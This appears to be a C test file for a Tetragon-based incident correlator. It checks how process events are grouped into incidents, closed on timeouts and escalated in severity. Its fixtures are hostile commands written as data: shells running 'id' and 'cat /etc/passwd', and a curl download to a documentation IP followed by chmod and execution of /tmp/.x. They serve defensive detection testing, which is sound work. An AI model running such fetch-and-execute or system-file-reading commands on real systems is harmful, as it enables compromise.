/* test_enrich_incident.c - incidents from realistic Tetragon events: a
 * shell and its children in one incident, boundaries (container init, the
 * app's main process) that keep siblings apart, a shared suspicious
 * ancestor that joins them, closing on event time, ids stable across a
 * replay, the timeline cap, partial closes per lane, a sequence raising
 * severity, and the record's JSON. */
#include <check.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "check_main.h"
#include "../../enrich/incident.h"
#include "../../enrich/incident_out.h"

static pj_arena *arena;

typedef struct proc {
    const char *id, *parent, *pod, *binary, *args;
    int init; /* PID 1 of its container */
} proc;

static void put_proc(char *out, size_t cap, const proc *p)
{
    snprintf(
        out, cap,
        "{\"exec_id\":\"%s\",\"binary\":\"%s\",\"arguments\":\"%s\",\"parent_exec_id\":\"%s\","
        "\"pod\":{\"namespace\":\"shop\",\"name\":\"%s\",\"container\":{\"name\":\"app\",\"pid\":%d},"
        "\"workload\":\"web\"}}",
        p->id, p->binary, p->args, p->parent, p->pod, p->init ? 1 : 40);
}

/* One event of kind for p (parent pp), at second t. */
static tetra_event *mk(const char *kind, const proc *p, const proc *pp, int t, const char *extra)
{
    char pj[1024], ppj[1024] = "null", json[4096];
    put_proc(pj, sizeof pj, p);
    if (pp)
        put_proc(ppj, sizeof ppj, pp);
    snprintf(json, sizeof json,
             "{\"%s\":{\"process\":%s,\"parent\":%s%s},\"node_name\":\"node-1\","
             "\"time\":\"2026-11-26T10:%02d:%02d.000000001Z\"}",
             kind, pj, ppj, extra ? extra : "", t / 60, t % 60);
    tetra_event *ev = NULL;
    const char *reason;
    pj_error perr;
    ck_assert_msg(event_from_json(arena, json, strlen(json), &ev, &reason, &perr, NULL) == 0,
                  "%s: %s", reason, perr.msg);
    return ev;
}

static Tetragonsidekick__Enrichment en_of(int sev, char **rules)
{
    Tetragonsidekick__Enrichment en;
    tetragonsidekick__enrichment__init(&en);
    en.severity = (Tetragonsidekick__Severity)sev;
    en.summary = "a summary";
    en.rules = rules;
    en.n_rules = rules && rules[0] ? 1 : 0;
    return en;
}

static void feed(incidents *s, int32_t lane, tetra_event *ev, int sev)
{
    char *names[] = {sev > SEV_INFO ? "test-rule" : NULL};
    Tetragonsidekick__Enrichment en = en_of(sev, names);
    ck_assert_int_eq(inc_feed(s, lane, ev, &en), 0);
}

static seqset seqs;

static incidents *fresh(size_t max_events)
{
    inc_conf c = {.min_severity = SEV_LOW,
                  .idle_ms = 60000,
                  .max_ms = 900000,
                  .max_events = max_events,
                  .lineage_cap = 1000,
                  .grace_ms = 120000};
    incidents *s = inc_new(&c, &seqs);
    ck_assert_ptr_nonnull(s);
    return s;
}

/* Drain the change queue; returns how many distinct incidents were on it. */
static int drain(incidents *s, incident **last)
{
    int n = 0;
    incident *in;
    const incident *seen[16];
    while ((in = inc_next(s)) != NULL) {
        int dup = 0;
        for (int i = 0; i < n; i++)
            dup |= seen[i] == in;
        if (!dup && n < 16)
            seen[n++] = in;
        if (last)
            *last = in;
    }
    return n;
}

static const proc INIT = {"init", "shim", "web-1", "/usr/bin/tini", "--", 1};
static const proc APP = {"app", "init", "web-1", "/usr/bin/python3", "app.py", 0};
static const proc SH1 = {"sh1", "app", "web-1", "/bin/sh", "-c id", 0};
static const proc SH2 = {"sh2", "app", "web-1", "/bin/sh", "-c ls", 0};
static const proc CURL = {"curl1", "sh1", "web-1", "/usr/bin/curl", "http://203.0.113.7/", 0};

START_TEST(shell_and_children_in_one)
{
    incidents *s = fresh(100);
    incident *in = NULL;
    feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
    feed(s, 0, mk("process_exec", &SH1, &APP, 1, NULL), SEV_MEDIUM);
    feed(s, 0, mk("process_exec", &CURL, &SH1, 2, NULL), SEV_INFO); /* quiet child: joins */
    feed(s, 0, mk("process_exit", &CURL, &SH1, 3, NULL), SEV_INFO);
    ck_assert_int_eq(drain(s, &in), 1);
    ck_assert_uint_eq(in->count, 3);
    ck_assert_str_eq(in->root_exec_id, "sh1");
    ck_assert_int_eq(in->severity, SEV_MEDIUM);
    ck_assert_int_eq(in->status, INC_OPEN);
    ck_assert_str_eq(in->workload, "web");
    inc_free(s);
}
END_TEST

START_TEST(app_main_keeps_siblings_apart)
{
    incidents *s = fresh(100);
    feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
    feed(s, 0, mk("process_exec", &SH1, &APP, 1, NULL), SEV_MEDIUM);
    feed(s, 0, mk("process_exec", &SH2, &APP, 2, NULL), SEV_MEDIUM);
    ck_assert_int_eq(drain(s, NULL), 2);
    inc_counts n;
    inc_counts_get(s, &n);
    ck_assert_uint_eq(n.opened, 2);
    inc_free(s);
}
END_TEST

START_TEST(shared_suspicious_ancestor_joins)
{
    static const proc PY = {"py", "app", "web-1", "/usr/bin/python3", "worker.py", 0};
    static const proc A = {"a", "py", "web-1", "/bin/sh", "-c id", 0};
    static const proc B = {"b", "py", "web-1", "/bin/sh", "-c cat /etc/passwd", 0};
    incidents *s = fresh(100);
    incident *in = NULL;
    feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
    feed(s, 0, mk("process_exec", &PY, &APP, 1, NULL),
         SEV_INFO); /* not init's child: no boundary */
    feed(s, 0, mk("process_exec", &A, &PY, 2, NULL), SEV_HIGH);
    feed(s, 0, mk("process_exec", &B, &PY, 3, NULL), SEV_MEDIUM);
    ck_assert_int_eq(drain(s, &in), 1);
    ck_assert_str_eq(in->root_exec_id, "py");
    ck_assert_uint_eq(in->count, 2);
    ck_assert_int_eq(in->severity, SEV_HIGH);
    inc_free(s);
}
END_TEST

START_TEST(closes_on_event_time)
{
    static const proc OTHER = {"o", "init", "web-1", "/bin/true", "", 0};
    incidents *s = fresh(100);
    incident *in = NULL;
    feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
    feed(s, 0, mk("process_exec", &SH1, &APP, 10, NULL), SEV_MEDIUM);
    drain(s, &in);
    feed(s, 0, mk("process_exec", &OTHER, &INIT, 69, NULL), SEV_INFO); /* 59 s idle: still open */
    ck_assert_ptr_null(inc_next(s));
    feed(s, 0, mk("process_exit", &OTHER, &INIT, 71, NULL), SEV_INFO); /* 61 s: closed */
    ck_assert_ptr_eq(inc_next(s), in);
    ck_assert_int_eq(in->status, INC_CLOSED);
    ck_assert_uint_eq(inc_open_count(s), 0);
    inc_release(s, in);
    inc_free(s);
}
END_TEST

static void ids_of(const char *pod, char *id, size_t cap)
{
    proc app = APP, sh = SH1, init = INIT;
    app.pod = sh.pod = init.pod = pod;
    incidents *s = fresh(100);
    incident *in = NULL;
    feed(s, 0, mk("process_exec", &app, &init, 0, NULL), SEV_INFO);
    feed(s, 0, mk("process_exec", &sh, &app, 1, NULL), SEV_HIGH);
    drain(s, &in);
    snprintf(id, cap, "%s", in->id);
    inc_free(s);
}

START_TEST(ids_stable_across_replays)
{
    char a[48], b[48], c[48];
    ids_of("web-1", a, sizeof a);
    ids_of("web-1", b, sizeof b);
    ids_of("web-2", c, sizeof c);
    ck_assert_str_eq(a, b);
    ck_assert_str_ne(a, c);
    ck_assert_int_eq(strncmp(a, "inc-", 4), 0);
    ck_assert_uint_eq(strlen(a), 20);
}
END_TEST

START_TEST(timeline_capped_and_record)
{
    incidents *s = fresh(3);
    incident *in = NULL;
    feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
    feed(s, 0, mk("process_exec", &SH1, &APP, 1, NULL), SEV_MEDIUM);
    for (int i = 0; i < 4; i++)
        feed(
            s, 0,
            mk("process_kprobe", &SH1, &APP, 2 + i,
               ",\"function_name\":\"fd_install\",\"args\":[{\"file_arg\":{\"path\":\"/etc/passwd\"}}]"),
            SEV_INFO);
    drain(s, &in);
    ck_assert_uint_eq(in->count, 5);
    ck_assert_uint_eq(in->nev, 3);
    ck_assert_uint_eq(in->omitted, 2);
    ck_assert_str_eq(in->ev[1].function, "fd_install");
    Tetragonsidekick__IncidentRecord *rec = incident_record(in, "prod", "", arena);
    ck_assert_ptr_nonnull(rec);
    buf b = BUF_INIT;
    ck_assert_int_eq(incident_encode(rec, 0, &b), 0);
    ck_assert_msg(strncmp(b.p, "{\"incident\":{\"id\":\"inc-", 23) == 0, "%s", b.p);
    ck_assert_ptr_nonnull(strstr(b.p, "\"events_omitted\":\"2\""));
    ck_assert_ptr_nonnull(strstr(b.p, "\"status\":\"INCIDENT_STATUS_OPEN\""));
    ck_assert_ptr_nonnull(strstr(b.p, "\"cluster\":\"prod\""));
    ck_assert_int_eq(b.p[b.len - 1], '\n');
    ck_assert_int_eq(incident_encode(rec, 1, &b), 0);
    Tetragonsidekick__IncidentRecord *back =
        tetragonsidekick__incident_record__unpack(NULL, b.len, (const uint8_t *)b.p);
    ck_assert_ptr_nonnull(back);
    ck_assert_str_eq(back->incident->id, in->id);
    ck_assert_uint_eq(back->incident->n_events, 3);
    tetragonsidekick__incident_record__free_unpacked(back, NULL);
    buf_free(&b);
    inc_free(s);
}
END_TEST

START_TEST(partial_per_lane)
{
    proc app2 = APP, sh2 = SH1, init2 = INIT;
    app2.id = "app2", sh2.id = "sh9", init2.id = "init2";
    app2.parent = "init2", sh2.parent = "app2";
    app2.pod = sh2.pod = init2.pod = "db-0";
    incidents *s = fresh(100);
    feed(s, 1, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
    feed(s, 1, mk("process_exec", &SH1, &APP, 1, NULL), SEV_HIGH);
    /* another node on lane 2 */
    tetra_event *ev = mk("process_exec", &sh2, &app2, 2, NULL);
    ev->node_name = "node-2";
    feed(s, 2, ev, SEV_HIGH);
    drain(s, NULL);
    inc_close_all(s, 1, INC_PARTIAL);
    incident *in = inc_next(s);
    ck_assert_ptr_nonnull(in);
    ck_assert_int_eq(in->status, INC_PARTIAL);
    ck_assert_str_eq(in->node, "node-1");
    ck_assert_ptr_null(inc_next(s));
    ck_assert_uint_eq(inc_open_count(s), 1);
    inc_release(s, in);
    inc_free(s);
}
END_TEST

START_TEST(sequence_raises_severity)
{
    static const proc DL = {
        "dl", "sh1", "web-1", "/usr/bin/curl", "-o /tmp/.x http://203.0.113.7/x", 0};
    static const proc CH = {"ch", "sh1", "web-1", "/bin/chmod", "+x /tmp/.x", 0};
    static const proc X = {"x", "sh1", "web-1", "/tmp/.x", "", 0};
    incidents *s = fresh(100);
    incident *in = NULL;
    feed(s, 0, mk("process_exec", &APP, &INIT, 0, NULL), SEV_INFO);
    feed(s, 0, mk("process_exec", &SH1, &APP, 1, NULL), SEV_MEDIUM);
    feed(s, 0, mk("process_exec", &DL, &SH1, 2, NULL), SEV_HIGH);
    feed(s, 0, mk("process_exec", &CH, &SH1, 3, NULL), SEV_INFO);
    feed(s, 0, mk("process_exec", &X, &SH1, 4, NULL), SEV_HIGH);
    drain(s, &in);
    ck_assert_int_eq(in->nseq, 1);
    ck_assert_str_eq(in->seq[0], "download-chmod-exec");
    ck_assert_int_eq(in->severity, SEV_CRITICAL);
    int found = 0;
    for (int i = 0; i < in->ntech; i++)
        found |= strcmp(in->tech[i].id, "T1204.002") == 0;
    ck_assert(found);
    char fp[17];
    inc_fingerprint(in, fp);
    ck_assert_uint_eq(strlen(fp), 16);
    inc_free(s);
}
END_TEST

static void setup(void)
{
    char err[256];
    arena = pj_arena_new();
    memset(&seqs, 0, sizeof seqs);
    ck_assert(seq_load_builtin(&seqs, err, sizeof err) == 0 &&
              seq_prepare(&seqs, err, sizeof err) == 0);
}

static void teardown(void)
{
    pj_arena_free(arena);
    seq_free(&seqs);
}

static void add_tests(TCase *tc)
{
    tcase_add_checked_fixture(tc, setup, teardown);
    tcase_add_test(tc, shell_and_children_in_one);
    tcase_add_test(tc, app_main_keeps_siblings_apart);
    tcase_add_test(tc, shared_suspicious_ancestor_joins);
    tcase_add_test(tc, closes_on_event_time);
    tcase_add_test(tc, ids_stable_across_replays);
    tcase_add_test(tc, timeline_capped_and_record);
    tcase_add_test(tc, partial_per_lane);
    tcase_add_test(tc, sequence_raises_severity);
}

int main(void)
{
    return check_main("enrich_incident", add_tests);
}
